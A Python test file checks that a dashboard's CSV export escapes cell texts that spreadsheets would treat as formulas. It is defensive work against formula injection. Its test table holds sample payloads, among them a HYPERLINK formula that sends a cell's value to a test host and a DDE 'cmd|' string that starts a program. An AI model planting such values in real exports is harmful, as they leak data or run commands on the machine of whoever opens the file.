"""A text of a client is no formula in the spreadsheet of whoever opens a table."""

from __future__ import annotations

import csv
import io
import json
import subprocess

import pytest

from tests.unit.web.test_dashboard_csv import NODE
from web.dashboard.page import FOLDER
from web.read_api.csv_rows import csv_response

# Texts, and whether a spreadsheet would run each.
CELLS = {
    "=1+1": True,
    '=HYPERLINK("http://x.test?"&A1)': True,
    "+49 30 1234": True,
    "-2+3+cmd|' /C calc'!A0": True,
    "@SUM(A1)": True,
    "\t=1+1": True,
    "\r=1+1": True,
    "\n=1+1": True,
    "\uff1d1+1": True,
    "\uff20SUM(A1)": True,
    "-": True,
    "-great": True,
    "-1,5e": True,
    "1=1": False,
    " =1+1": False,
    "'=1+1": False,
    "-5": False,
    "+3.5": False,
    "-1,5e-3": False,
    "a\n=1+1": False,
    "": False,
    "\u22125 (minus sign)": False,
}


def escaped(text: str) -> str:
    return f"'{text}" if CELLS[text] else text


def test_text_that_begins_like_a_formula_is_escaped_in_a_reply() -> None:
    rows = [{"text": text, "nested": {"text": text}, "score": -0.5} for text in CELLS]
    reply = bytes(csv_response("x", rows).body).decode()
    read = list(csv.DictReader(io.StringIO(reply, newline="")))
    assert [row["text"] for row in read] == [escaped(text) for text in CELLS]
    assert [row["nested.text"] for row in read] == [escaped(text) for text in CELLS]
    assert {row["score"] for row in read} == {"-0.5"}


@pytest.mark.parametrize("separator", [";", "\t", "|"])
def test_text_is_one_cell_for_spreadsheets_that_separate_otherwise(separator: str) -> None:
    text = f"x{separator}=1+1"
    reply = bytes(csv_response("x", [{"text": text, "score": -0.5}]).body).decode()
    [names, cells] = csv.reader(io.StringIO(reply, newline=""), delimiter=separator)
    assert names == ['text,"score"']
    assert cells == [f"{text},-0.5"]


def test_dashboard_escapes_the_same_texts() -> None:
    program = (
        f"import {{ csvOf }} from {json.dumps((FOLDER / 'csv_rows.js').as_uri())};"
        f"process.stdout.write(csvOf([{json.dumps(list(CELLS))}]));"
    )
    done = subprocess.run(
        [NODE, "--input-type=module", "-e", program], capture_output=True, check=True
    )
    [cells] = csv.reader(io.StringIO(done.stdout.decode(), newline=""))
    assert cells == [escaped(text) for text in CELLS]


@pytest.mark.parametrize("row", [{}, {"a": None}])
def test_row_without_texts_has_a_line(row: dict[str, None]) -> None:
    assert bytes(csv_response("x", [row]).body).decode().count("\r\n") == 2
